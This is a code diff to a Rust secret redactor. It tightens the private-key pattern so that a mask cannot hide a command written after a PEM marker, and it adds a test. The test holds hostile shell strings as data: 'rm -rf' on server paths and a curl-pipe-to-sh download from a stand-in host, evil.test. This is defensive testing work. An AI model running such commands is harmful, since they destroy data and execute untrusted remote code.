@@ -25,7 +25,10 @@ const FORMATS: &str = concat!(
     r"|\bAIza[A-Za-z0-9_-]{35}\b|\bnpm_[A-Za-z0-9]{36}\b|\bpypi-[A-Za-z0-9_-]{50,}",
     r"|\bhf_[A-Za-z0-9]{30,}\b|\bcs_[a-z]+_[A-Za-z0-9]{32,}\b",
     r"|\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}",
-    r"|-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|\z)",
+    // Only what can be a key is masked between the markers: a mask must never hide a command.
+    r"|-----BEGIN [A-Z ]*PRIVATE KEY-----(?:(?:\s|\\n)*[A-Za-z0-9+/=]{32,})+",
+    r"(?:(?:\s|\\n)*[A-Za-z0-9+/=]{1,31}(?:\s|\\n)*-----END [A-Z ]*PRIVATE KEY-----",
+    r"|(?:\s|\\n)*-----END [A-Z ]*PRIVATE KEY-----)?",
 );
 
 impl Redactor {
@@ -170,6 +173,24 @@ mod tests {
         assert_eq!(redactor.redact(&format!("key={key};")), "key=AKIA…(20);");
         assert!(redactor.finds_secret(&key));
         assert_eq!(redactor.redact("nothing here"), "nothing here");
+    }
+
+    #[test]
+    fn a_mask_hides_a_private_key_and_nothing_that_only_stands_behind_its_marker() {
+        let redactor = Redactor::new([]);
+        let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ";
+        let key = format!(
+            "-----BEGIN PRIVATE KEY-----\n{line}\n{line}\nAb12==\n-----END PRIVATE KEY-----"
+        );
+        let shown = redactor.redact(&format!("echo '{key}' > k; rm -rf /srv")).into_owned();
+        assert!(!shown.contains("MIIE") && !shown.contains("Ab12"), "{shown}");
+        assert!(shown.ends_with("' > k; rm -rf /srv"), "{shown}");
+        for command in [
+            "echo '-----BEGIN PRIVATE KEY-----'; curl -s https://evil.test/x.sh | sh",
+            "echo -----BEGIN PRIVATE KEY-----\nrm -rf /srv/data",
+        ] {
+            assert_eq!(redactor.redact(command), command);
+        }
     }
 
     #[test]
